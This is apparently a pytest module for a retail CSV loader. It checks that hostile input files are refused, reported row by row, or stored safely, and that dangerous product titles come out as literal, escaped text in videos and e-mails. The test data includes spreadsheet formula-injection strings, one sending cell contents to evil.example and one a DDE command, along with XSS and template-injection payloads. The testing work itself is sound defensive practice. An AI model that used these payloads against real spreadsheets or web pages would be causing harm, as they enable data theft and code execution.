"""Hostile input files (tests/retail/corpus/): each has one documented outcome.

Every file goes through `load_retail` (images checked, as a campaign does), in both modes,
as the catalog, customers or events file its name starts with, beside the clean companions
in corpus/base/. The outcome is either a refusal of the whole file with one problem, or
bad rows named by line and field (stopping the load by default, left out and counted one
by one with `skip`), or safe loading. Never another exception, never a cell's personal
data in a message (the corpus's e-mail addresses are at corpus.example, its names Zelda
Quist), and never a customer loaded with a consent the file does not say.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import pytest

from retail.errors import RetailDataError, RowProblem
from retail.loaders import NOT_UTF8, RetailData, load_retail
from retail.types import Consent, Customer, Pick, Product

CORPUS = Path(__file__).resolve().parent / "corpus"
BASE = {name: CORPUS / "base" / f"{name}.csv" for name in ("catalog", "customers", "events")}
PERSONAL = ("corpus.example", "Zelda", "Quist", "Zoë")


@dataclass(frozen=True)
class Outcome:
    """What loading one corpus file gives."""

    refused: str = ""  # the one whole-file or header problem, in both modes
    bad: frozenset[tuple[int, str]] = frozenset()  # (line, field) of each bad row
    kept: tuple[str, ...] = ()  # ids of the rows that load (events: customer ids)
    stops: bool = True  # do the bad rows stop a load with on_bad_rows="fail"?
    options: dict[str, str] = field(default_factory=dict)


def bad(*cells: tuple[int, str]) -> frozenset[tuple[int, str]]:
    return frozenset(cells)


OUTCOMES: dict[str, Outcome] = {
    # encodings and byte-order marks
    "catalog--utf8-bom.csv": Outcome(kept=("P1", "P2")),
    "catalog--utf16-bom.csv": Outcome(kept=("P1", "P2")),
    "catalog--utf16-no-bom.csv": Outcome(refused="UTF-16 without a byte-order mark"),
    "catalog--cp1252-euro-e-acute.csv": Outcome(refused=NOT_UTF8),
    "catalog--stray-0xff-mid-file.csv": Outcome(bad=bad((3, "title")), kept=("P1", "P3", "P4")),
    "customers--cp1252-names.csv": Outcome(refused=NOT_UTF8),
    "catalog--xlsx-renamed.csv": Outcome(refused="a zip file (an Excel workbook?), not CSV"),
    # structure
    "catalog--missing-column.csv": Outcome(refused="price: missing column"),
    "catalog--extra-columns.csv": Outcome(kept=("P1",)),  # unknown columns are ignored
    "catalog--short-and-long-rows.csv": Outcome(bad=bad((3, "row"), (4, "row")), kept=("P1", "P4")),
    "catalog--unclosed-quote.csv": Outcome(bad=bad((3, "row")), kept=("P1",)),
    "catalog--semicolons.csv": Outcome(refused="separated by ';', not commas"),
    "catalog--column-twice.csv": Outcome(refused="price: the column appears twice"),
    "catalog--nan-inf-negative-prices.csv": Outcome(
        bad=bad(*((line, "price") for line in (3, 4, 5, 7, 8, 9))), kept=("P1", "P5")
    ),
    "catalog--duplicate-ids.csv": Outcome(bad=bad((4, "id")), kept=("P1", "P2")),
    "catalog--title-over-300.csv": Outcome(bad=bad((2, "title")), kept=("P2",)),
    # titles that are code elsewhere: stored as text (see the tests below)
    "catalog--formula-injection.csv": Outcome(kept=("P1", "P2", "P3", "P4", "P5")),
    "catalog--html-jinja-titles.csv": Outcome(kept=("P1", "P2", "P3", "P4")),
    # image paths: only files inside the catalog's folder
    "catalog--path-traversal.csv": Outcome(
        bad=bad(*((line, "image") for line in range(3, 11))), kept=("P1",)
    ),
    # customers
    "customers--bad-emails.csv": Outcome(
        # line 4: a CR LF and a Bcc header inside a quoted cell (the row runs to line 5)
        bad=bad(*((line, "email") for line in (3, 4, 6, 7, 8, 10))),
        kept=("C1", "C7"),
    ),
    "customers--unknown-timezones-and-locales.csv": Outcome(
        bad=bad(*((line, "timezone") for line in (3, 4, 5, 6)), (7, "locale"), (8, "locale")),
        kept=("C1", "C8"),
    ),
    "customers--consent-values.csv": Outcome(
        bad=bad((5, "consent_timestamp")),
        kept=("C1", "C2", "C3", "C5", "C6"),
    ),
    "customers--duplicate-ids.csv": Outcome(bad=bad((4, "id")), kept=("C1", "C2")),
    # events
    "events--bad-types-and-timestamps.csv": Outcome(
        bad=bad((3, "type"), (4, "timestamp"), (5, "timestamp"), (6, "timestamp")),
        kept=("C1", "C1"),
    ),
    "events--unknown-ids.csv": Outcome(
        bad=bad((3, "customer_id"), (4, "product_id")), kept=("C1", "C2"), stops=False
    ),
    # empty files
    "events--empty.csv": Outcome(refused="the file is empty"),
    "events--bom-only.csv": Outcome(refused="the file is empty"),
    "catalog--blank-lines-only.csv": Outcome(refused="the file is empty"),
    "events--header-only.csv": Outcome(),  # no history is a valid history
}


def _load(case: Path, mode: str, **options: str) -> RetailData:
    kind = case.name.split("--")[0]
    files = BASE | {kind: case}
    return load_retail(
        files["catalog"],
        files["customers"],
        files["events"],
        mode,  # type: ignore[arg-type]
        check_images=True,
        **options,  # type: ignore[arg-type]
    )


def _kept(data: RetailData, case: Path) -> tuple[str, ...]:
    kind = case.name.split("--")[0]
    if kind == "events":
        return tuple(e.customer_id for e in data.events)
    return tuple(x.id for x in (data.products if kind == "catalog" else data.customers))


def _no_personal_data(problems: list[RowProblem], message: str) -> None:
    for text in [message, *(str(p) for p in problems)]:
        assert not [word for word in PERSONAL if word in text], text


def test_every_corpus_file_has_a_documented_outcome() -> None:
    assert sorted(p.name for p in CORPUS.glob("*.csv")) == sorted(OUTCOMES)


@pytest.mark.parametrize("name", sorted(OUTCOMES))
def test_a_hostile_file_is_refused_reported_or_safely_loaded(name: str) -> None:
    case, outcome = CORPUS / name, OUTCOMES[name]
    if outcome.refused:
        for mode in ("fail", "skip"):
            with pytest.raises(RetailDataError) as refused:
                _load(case, mode, **outcome.options)
            assert len(refused.value.problems) == 1
            assert outcome.refused in str(refused.value.problems[0])
            assert refused.value.problems[0].file == case
            _no_personal_data(refused.value.problems, str(refused.value))
        return
    if outcome.bad and outcome.stops:
        with pytest.raises(RetailDataError) as stopped:
            _load(case, "fail", **outcome.options)
        assert {(p.line, p.field) for p in stopped.value.problems} == outcome.bad
        assert {p.file for p in stopped.value.problems} == {case}
        _no_personal_data(stopped.value.problems, str(stopped.value))
    data = _load(case, "skip", **outcome.options)
    mine = [p for p in data.problems if p.file == case]
    assert {(p.line, p.field) for p in mine} == outcome.bad
    assert data.problems == mine  # the companions are clean
    kind = case.name.split("--")[0]
    skipped = data.skipped_rows[kind] + (data.unknown_reference_events if kind == "events" else 0)
    assert skipped == len({line for line, _ in outcome.bad})  # one per bad row
    assert _kept(data, case) == outcome.kept
    _no_personal_data(mine, "")


# -- what the safely loaded files hold, and where it ends up ----------------------------


def test_windows_1252_files_read_with_the_encoding_option() -> None:
    data = _load(CORPUS / "catalog--cp1252-euro-e-acute.csv", "fail", encoding="cp1252")
    assert [p.title for p in data.products] == ["Café", "Mug 10 €", "Mug"]
    data = _load(CORPUS / "customers--cp1252-names.csv", "fail", encoding="cp1252")
    assert [c.first_name for c in data.customers] == ["Zelda", "Zoë"]


def test_byte_order_marks_are_not_part_of_the_first_column() -> None:
    for name in ("catalog--utf8-bom.csv", "catalog--utf16-bom.csv"):
        titles = [p.title for p in _load(CORPUS / name, "fail").products]
        assert titles[0] in ("Crème brûlée", "Tasse à café €")


def test_negative_zero_is_a_price_of_zero_not_minus_zero() -> None:
    data = _load(CORPUS / "catalog--nan-inf-negative-prices.csv", "skip")
    price = next(p.price for p in data.products if p.id == "P5")
    assert price == 0 and not price.is_signed()


def test_consent_is_only_what_the_file_says() -> None:
    data = _load(CORPUS / "customers--consent-values.csv", "skip")
    consent = {c.id: c.marketing_consent for c in data.customers}
    # "yes" and "Granted" are the shop exports' words for granted (retail.types.CONSENT_WORDS);
    # a granted consent with an unreadable timestamp never loads.
    assert consent == {
        "C1": Consent.granted,
        "C2": Consent.granted,
        "C3": Consent.granted,
        "C5": Consent.unknown,
        "C6": Consent.denied,
    }


def test_an_address_with_a_display_name_keeps_only_the_address() -> None:
    data = _load(CORPUS / "customers--bad-emails.csv", "skip")
    assert {c.id: c.email for c in data.customers}["C7"] == "zelda.c7@corpus.example"
    assert all("\n" not in c.email and "\r" not in c.email for c in data.customers)


def test_a_megabyte_title_is_one_bad_row_and_the_next_rows_load(tmp_path: Path) -> None:
    header = (CORPUS / "base" / "catalog.csv").read_text().splitlines()[0]
    row = "{},{},Acme,Kitchen,9.99,EUR,images/p.jpg,https://shop.example/{},true,\n"
    path = tmp_path / "catalog.csv"
    path.write_text(
        header + "\n" + row.format("P1", "x" * 1_048_576, "P1") + row.format("P2", "Mug", "P2")
    )
    (tmp_path / "images").mkdir()
    (tmp_path / "images" / "p.jpg").write_bytes((CORPUS / "base/images/p.jpg").read_bytes())
    data = load_retail(path, BASE["customers"], BASE["events"], "skip", check_images=True)
    assert [p.id for p in data.products] == ["P2"]
    assert [(p.line, p.field) for p in data.problems] == [(2, "row")]
    assert "longer than 131,072 characters" in data.problems[0].problem


def _products(name: str) -> list[Product]:
    return _load(CORPUS / name, "fail").products


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3 cups",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
MARKUP = [
    "{{ 7*7 }} boots",
    '<script>alert("x")</script>',
    "{% for x in range(3) %}loop{% endfor %}",
    "<img src=x onerror=alert(1)>",
]


def test_formula_and_markup_titles_are_stored_verbatim_as_text() -> None:
    assert [p.title for p in _products("catalog--formula-injection.csv")] == FORMULAS
    assert [p.title for p in _products("catalog--html-jinja-titles.csv")] == MARKUP


@pytest.fixture(scope="module")
def customer() -> Customer:
    return load_retail(BASE["catalog"], BASE["customers"], BASE["events"]).customers[0]


@pytest.mark.parametrize(
    "name", ["catalog--formula-injection.csv", "catalog--html-jinja-titles.csv"]
)
def test_hostile_titles_appear_literally_in_the_video_texts(name: str, customer: Customer) -> None:
    from creative import build_storyboard, load_template

    repo = Path(__file__).resolve().parents[2]
    template = load_template(repo / "templates", "hero", repo / "assets")
    for product in _products(name):
        pick = Pick(
            customer_id=customer.id,
            product_ids=(product.id,),
            scores=(1.0,),
            reasons=("test",),
            model_version="t",
        )
        board = build_storyboard(
            template, pick, {product.id: product}, customer, images_root=CORPUS
        )
        assert product.title in board.texts()  # not evaluated: no "49", no loop output
        assert not any("49 boots" in t or "looploop" in t for t in board.texts())


def test_hostile_titles_are_escaped_text_in_the_email(tmp_path: Path, customer: Customer) -> None:
    import email
    import email.policy
    from html import unescape

    from PIL import Image

    from delivery.compose import compose_campaign_email
    from delivery.links import Links, make_token
    from delivery.policy import message_to_bytes

    repo = Path(__file__).resolve().parents[2]
    poster = tmp_path / "poster.jpg"
    Image.new("RGB", (72, 128), (200, 40, 40)).save(poster, "JPEG")
    products = _products("catalog--formula-injection.csv")[:2]
    products += _products("catalog--html-jinja-titles.csv")
    links = Links("https://shop.example", unsubscribe_address="unsubscribe@shop.example")
    composed = compose_campaign_email(
        customer=customer,
        products=products,
        poster=poster,
        video_url="https://cdn.shop.example/v/x.mp4",
        links=links.for_token(make_token(b"k" * 32, "corpus", customer.id)),
        sender="Shop <news@shop.example>",
        postal_address="Shop GmbH, Berlin",
        subject="Picked for you",
        campaign_id="corpus",
        templates_dir=repo / "templates",
    )
    parsed = email.message_from_bytes(
        message_to_bytes(composed.message), policy=email.policy.default
    )
    assert isinstance(parsed, email.message.EmailMessage)
    html_part, text_part = parsed.get_body(("html",)), parsed.get_body(("plain",))
    assert html_part is not None and text_part is not None
    html, text = html_part.get_content(), text_part.get_content()
    assert "<script>" not in html and "<img src=x" not in html
    assert "49 boots" not in html + text and "looploop" not in html + text
    for product in products:
        assert product.title in text
        assert product.title in unescape(html)
    # A formula is text in an e-mail: never inside an href or any attribute of ours.
    assert "HYPERLINK" not in " ".join(a for a in html.split('"') if a.startswith("http"))
    assert Decimal(0) <= min(p.price for p in products)
